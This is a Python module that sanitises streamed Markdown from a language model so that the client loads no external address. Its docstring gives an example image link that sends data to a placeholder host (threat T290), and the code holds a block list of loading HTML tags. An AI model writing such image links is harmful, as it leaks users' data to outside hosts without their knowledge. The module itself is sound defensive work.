"""Markdown for a client that renders it: no text of a model makes the client load an address.

THREAT T290: an editor may show `![x](https://host/?data)` as an image, so that text of a model sends data to a host
without any call of a tool. Images and HTML tags that load something are shown as text. Fenced code is left as it is,
where every reader of Markdown agrees that it is code.
"""

import re

_TAGS = (
    "audio|base|body|embed|feimage|form|frame|frameset|iframe|image|img|input|link|meta|object|picture|script|source|"
    "style|svg|track|use|video"
)
# An image, a tag that loads something, or a tag with attributes, such as a style with an address.
_LOADS = re.compile(rf"!(?=\[)|<(?=/?(?:{_TAGS})\b|[a-z][a-z0-9-]*[\s/])", re.IGNORECASE)
_BEGUN = re.compile(r"!\Z|\r\Z|</?[a-z0-9-]{0,40}\Z", re.IGNORECASE)  # the end of a piece that may become one of them
_OPENS = re.compile(r"(`{3,})[^`]*\Z|(~{3,}).*\Z")
_HTML = re.compile(r"[\s>*+\-0-9.)#]*<")  # a line that may begin a block of HTML, in which no fence counts
_LONGEST = 200  # characters of a line that can be a fence
_ESCAPED = {"!": "!\\", "<": "&lt;"}  # a backslash before `<` has no effect in a block of HTML


def inert(text: str) -> str:
    """Return a whole Markdown text without parts that load an address."""
    stream = InertMarkdown()
    return stream.feed(text) + stream.end()


def fenced(text: str, language: str = "") -> str:
    """Return `text` as a fenced block of code that the text cannot end."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{language}\n{text.rstrip(chr(10))}\n{fence}"


def code(text: str) -> str:
    """Return one line of text as code in Markdown, so that no part of it is hidden or loaded."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    mark, room = "`" * (longest + 1), " " if "`" in text else ""
    return f"{mark}{room}{text}{room}{mark}"


class InertMarkdown:
    """A Markdown text in pieces, as a model writes it."""

    def __init__(self) -> None:
        self._held = ""
        self._line = ""  # the beginning of the current line
        self._fence = ""  # the fence of the block of code around the current line, or empty
        self._html = False

    def feed(self, piece: str) -> str:
        """Return what can be shown after one more piece."""
        text, self._held = (self._held + piece).replace("\r\n", "\n"), ""
        if (begun := _BEGUN.search(text)) is not None:
            text, self._held = text[: begun.start()], begun[0]
        return self._shown(text)

    def end(self) -> str:
        """Return the rest, at the end of a message."""
        text, self._held = self._held, ""
        shown = self._shown(text)
        self._line, self._fence, self._html = "", "", False
        return shown

    def _shown(self, text: str) -> str:
        shown = []
        for part in re.split(r"(?<=\n)|(?=\r)", text):
            if "\r" in part:  # it ends a line for some readers of Markdown only
                self._fence, self._html = "", True
            shown.append(part if self._fence else _LOADS.sub(lambda found: _ESCAPED[found[0]], part))
            self._line = (self._line + part)[: _LONGEST + 1]
            if part.endswith("\n"):
                self._end_line(self._line.rstrip("\n"))
                self._line = ""
        return "".join(shown)

    def _end_line(self, line: str) -> None:
        if self._fence:
            bare = line.strip(" ")
            indent = len(line) - len(line.lstrip(" "))
            if indent < 4 and set(bare.rstrip()) == {self._fence[0]} and len(bare.rstrip()) >= len(self._fence):
                self._fence = ""
            return
        self._html = self._html or _HTML.match(line) is not None
        opens = _OPENS.match(line)
        if opens is not None and not self._html and len(line) <= _LONGEST:
            self._fence = opens[1] or opens[2]
